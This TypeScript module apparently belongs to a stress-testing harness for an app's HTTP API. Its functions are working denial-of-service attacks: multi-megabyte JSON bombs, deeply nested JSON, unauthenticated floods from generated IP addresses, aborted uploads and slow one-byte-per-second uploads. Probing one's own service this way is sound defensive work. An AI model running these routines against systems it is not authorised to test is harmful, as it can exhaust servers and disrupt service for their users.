import { setTimeout as sleep } from 'node:timers/promises';
import type { RunAttack, StatusCounts } from '../attack-types.ts';
import { buildTestIpAddress } from '../build-test-ip-address.ts';
import {
  incrementStatusCount,
  openRequest,
  sendRequest,
  sendRequestsAtOnce,
  sendRequestsRepeatedly,
} from '../http-requests.ts';

const MEGABYTE = 1_000_000;

/** A JSON body of 27 MB with millions of empty objects, twelve at a time. */
export const jsonBombs: RunAttack = async ({ url, accounts }) => {
  const body = `{"action":"CREATE_ITEM","payload":{"z":[${'{},'.repeat(9 * MEGABYTE)}{}]}}`;
  const bombs = Array.from({ length: 12 }, (_, index) => accounts[index % accounts.length]);
  return sendRequestsAtOnce(
    bombs.map((account) => () => sendRequest({ url, path: '/items', account, body })),
  );
};

/** The same kind of body in place of a photo. */
export const jsonBombsAsPhotos: RunAttack = async ({ url, accounts, seconds }) => {
  const emptyArrays = '[],'.repeat(2 * MEGABYTE);
  const body = `{"action":"FOOD_RECOGNITION","payload":{"image":[${emptyArrays}[]],"mimeType":"image/jpeg"}}`;
  return sendRequestsRepeatedly(seconds, 4, (lane) =>
    sendRequest({ url, path: '/scan', account: accounts[lane % accounts.length], body }),
  );
};

/** A megabyte of empty arrays without a session, to existing and unknown endpoints. */
export const unauthenticatedJsonArrays: RunAttack = async ({ url, seconds, network }) => {
  const body = `[${'[],'.repeat(MEGABYTE / 3)}[]]`;
  const paths = ['/auth/login', '/v1/log/data', '/nothing/here', '/items', '/v1/support'];
  return sendRequestsRepeatedly(seconds, 8, (lane, round) =>
    sendRequest({
      url,
      path: paths[round % paths.length] ?? '/',
      account: { cookie: '', ipAddress: buildTestIpAddress(network, lane) },
      body,
    }),
  );
};

/** Deeply nested JSON within the size limit. */
export const deeplyNestedJson: RunAttack = async ({ url, accounts, seconds }) => {
  const depth = 100_000;
  const body = `{"action":"CREATE_ITEM","payload":${'{"a":'.repeat(depth / 2)}1${'}'.repeat(depth / 2)}}`;
  return sendRequestsRepeatedly(seconds, 4, (lane) =>
    sendRequest({ url, path: '/items', account: accounts[lane % accounts.length], body }),
  );
};

/** Declares two megabytes, sends a few bytes, and resets the connection; six times per account. */
export const abortedUploads: RunAttack = async ({ url, accounts }) => {
  const outcome: StatusCounts = {};
  const uploads = accounts.flatMap((account) => Array.from({ length: 6 }, () => account));
  await Promise.all(
    uploads.map(async (account, index) => {
      const headers = { 'content-type': 'application/json', 'content-length': '2000000' };
      const request = openRequest(
        { url, path: '/scan', method: 'POST', account, headers },
        (status) => incrementStatusCount(outcome, status),
      );
      if (index % 2) request.write('{"action":"FOOD_RECOGNITION"');
      else request.flushHeaders();
      await sleep(index % 3 ? 30 : 1);
      request.destroy();
    }),
  );
  await sleep(500);
  return outcome;
};

/** Uploads that send one byte per second. */
export const slowUploads: RunAttack = async ({ url, accounts, seconds }) => {
  const outcome: StatusCounts = {};
  const uploads = accounts.flatMap((account) => Array.from({ length: 6 }, () => account));
  await Promise.all(
    uploads.map(async (account) => {
      let isOver = false;
      const headers = { 'content-type': 'application/json', 'content-length': '20000000' };
      const request = openRequest(
        { url, path: '/scan', method: 'POST', account, headers },
        (status) => {
          isOver = true;
          incrementStatusCount(outcome, status);
        },
      );
      for (let second = 0; second < seconds && !isOver; second++) {
        request.write(' ');
        await sleep(1000);
      }
      request.destroy();
    }),
  );
  return outcome;
};
